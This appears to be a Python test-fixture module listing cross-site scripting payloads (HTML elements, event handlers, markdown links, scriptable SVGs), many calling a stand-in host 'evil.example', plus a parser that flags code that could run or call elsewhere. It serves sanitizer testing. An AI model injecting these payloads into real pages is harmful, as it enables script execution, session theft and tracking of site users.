"""Texts that would like to run in somebody else's browser, and what finds harm in a page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

ELSEWHERE = "evil.example"
"""The host that a text would call; no page may ask it for anything."""

ELEMENTS = (
    "<script>evil()</script>",
    "<script src=//evil.example/a.js></script>",
    "<SCRIPT/x SRC=https://evil.example/a.js></SCRIPT>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<script\t>evil()</script\t>",
    "</script><script>evil()</script>",
    "<!--><script>evil()</script>-->",
    "--><script>evil()</script>",
    "]]><script>evil()</script>",
    "<![CDATA[<script>evil()</script>]]>",
    "</title><script>evil()</script>",
    "</textarea><script>evil()</script>",
    "</style><script>evil()</script>",
    "</template><script>evil()</script>",
    "</option></select><script>evil()</script>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<iframe src=javascript:evil()></iframe>",
    "<iframe srcdoc='<script>parent.evil()</script>'></iframe>",
    "<object data=//evil.example/a.swf></object>",
    "<embed src=//evil.example/a.svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import url(//evil.example/a.css)</style>",
    "<form action=//evil.example/><button>Go</button></form>",
    "<button formaction=javascript:evil()>Go</button>",
    "<input autofocus onfocus=evil()>",
    "<isindex action=javascript:evil()>",
    "<template><script>evil()</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=evil()>'>",
    "<svg><style><!--</style><img title='--><img src=x onerror=evil()>'></svg>",
    "<svg><foreignObject><body onload=evil()></foreignObject></svg>",
    "<math href=javascript:evil()>x</math>",
    "<frameset onload=evil()>",
    "<applet code=evil></applet>",
    "<portal src=//evil.example/></portal>",
)
HANDLERS = (
    "<img src=x onerror=evil()>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/pixel.png 1x'>",
    "<img/src=x/onerror=evil()//",
    "<svg onload=evil()>",
    "<svg/onload=evil()//",
    "<svg><script>evil()</script></svg>",
    "<svg><animate onbegin=evil() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:evil()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=evil()></svg>#x'></svg>",
    "<body onload=evil()>",
    "<details open ontoggle=evil()>",
    "<video src=x onerror=evil()></video>",
    "<video poster=//evil.example/pixel.png></video>",
    "<audio src onloadstart=evil()>",
    "<marquee onstart=evil()>x</marquee>",
    "<p onmouseover=evil()>x</p>",
    "<p style=background:url(//evil.example/pixel.png)>x</p>",
    "<div onpointerrawupdate=evil()>x</div>",
    "<b onanimationstart=evil() style=animation-name:x>x</b>",
    "<xss tabindex=1 onfocus=evil() autofocus>x</xss>",
    "<text-editor onclick=evil()>x</text-editor>",
    '" autofocus onfocus=evil() x="',
    "' autofocus onfocus=evil() x='",
    '"><img src=x onerror=evil()>',
    "'><img src=x onerror=evil()>",
    "`><img src=x onerror=evil()>`",
    "{{ ''.__class__ }}<img src=x onerror=evil()>",
    "{% raw %}<img src=x onerror=evil()>",
    "${evil()}<img src=x onerror=evil()>",
    "&lt;img src=x onerror=evil()&gt;",
    "&#60;img src=x onerror=evil()&#62;",
    "%3Cimg src=x onerror=evil()%3E",
    "\uff1cimg src=x onerror=evil()\uff1e",
)
MARKDOWN = (
    "[x](javascript:evil())",
    "[x](JaVaScRiPt:evil())",
    "[x](&#106;avascript:evil())",
    "[x](java&Tab;script:evil())",
    "[x](\\javascript:evil())",
    "[x](%6aavascript:evil())",
    "[x](data:text/html,<script>evil()</script>)",
    "[x](vbscript:evil())",
    "[x](//evil.example/)",
    "[x](lesson:x\" onclick=evil())",
    "[x](https://evil.example/ \"onmouseover=evil()\")",
    "<https://evil.example/\"onclick=evil()>",
    "<javascript:evil()>",
    "![x](javascript:evil())",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=evil()>)",
    "![x\" onerror=\"evil()](y.svg)",
    "![<img src=x onerror=evil()>](y.svg)",
    "![x](y.svg '\" onerror=evil() \"')",
    "`` `<img src=x onerror=evil()> ``",
    "**<img src=x onerror=evil()>**",
    "[[<img src=x onerror=evil()>]]",
    "[<img src=x onerror=evil()>](lesson:two-keys)",
)  # fmt: skip
TEXTS = (*ELEMENTS, *HANDLERS, *MARKDOWN)
"""One line each: they fit wherever somebody types."""

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
PICTURES = tuple(
    SVG % inside
    for inside in (
        "<script>evil()</script>",
        "<script href='https://evil.example/a.js'/>",
        "<g onload='evil()'/>",
        "<rect onclick='evil()'/>",
        "<a href='javascript:evil()'><text>x</text></a>",
        "<a xlink:href='javascript:evil()'/>",
        "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
        "<use href='https://evil.example/a.svg#x'/>",
        "<use href='data:image/svg+xml,x#x'/>",
        "<image href='https://evil.example/pixel.png'/>",
        "<feImage href='https://evil.example/pixel.png'/>",
        "<animate attributeName='href' to='javascript:evil()'/>",
        "<set attributeName='onload' to='evil()'/>",
        "<style>@import 'https://evil.example/a.css';</style>",
        "<style>rect{fill:url(https://evil.example/pixel.png)}</style>",
        "<rect style='fill:url(//evil.example/pixel.png)'/>",
        "<handler type='text/ecmascript'>evil()</handler>",
        "<iframe src='javascript:evil()'/>",
        "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>evil()</h:script>",
        "<?xml-stylesheet href='https://evil.example/a.css'?>",
    )
)
"""Pictures that do more than draw: none of them may come in."""

_DEAD = {
    *("applet", "base", "embed", "frame", "frameset", "isindex", "link", "marquee", "math"),
    *("object", "portal", "script", "style", "xss", "foreignobject", "handler"),
}
_ADDRESSES = {"action", "data", "formaction", "href", "poster", "src", "srcset", "xlink:href"}


class Harm(HTMLParser):
    """Reads a page as a browser would and lists in ``found`` what could run or call elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element."""
        named = {name: value or "" for name, value in attrs}
        ours = tag in ("script", "link") and named.get("href", named.get("src", "")).startswith("/")
        if (tag in _DEAD and not ours) or (tag == "meta" and "http-equiv" in named):
            self.found.append(self.get_starttag_text() or tag)
        for name, value in named.items():
            runs = name.startswith("on") or name in ("style", "srcdoc")
            if runs or (name in _ADDRESSES and not _is_harmless(tag, value)):
                self.found.append(self.get_starttag_text() or tag)

    handle_startendtag = handle_starttag


def harm_in(page: str) -> list[str]:
    """What in the HTML of *page* could run, or call elsewhere."""
    reader = Harm()
    reader.feed(page)
    reader.close()
    return reader.found


def _is_harmless(tag: str, address: str) -> bool:
    """Whether *address* stays here, or is a link that somebody may choose to follow."""
    try:
        parts = urlsplit(address.strip())
    except ValueError:
        return False
    if tag == "a" and parts.scheme in ("http", "https", "mailto"):
        return True
    if tag == "img" and address.startswith("data:image/"):
        return "<" not in address
    return not parts.scheme and not parts.netloc and "\\" not in address
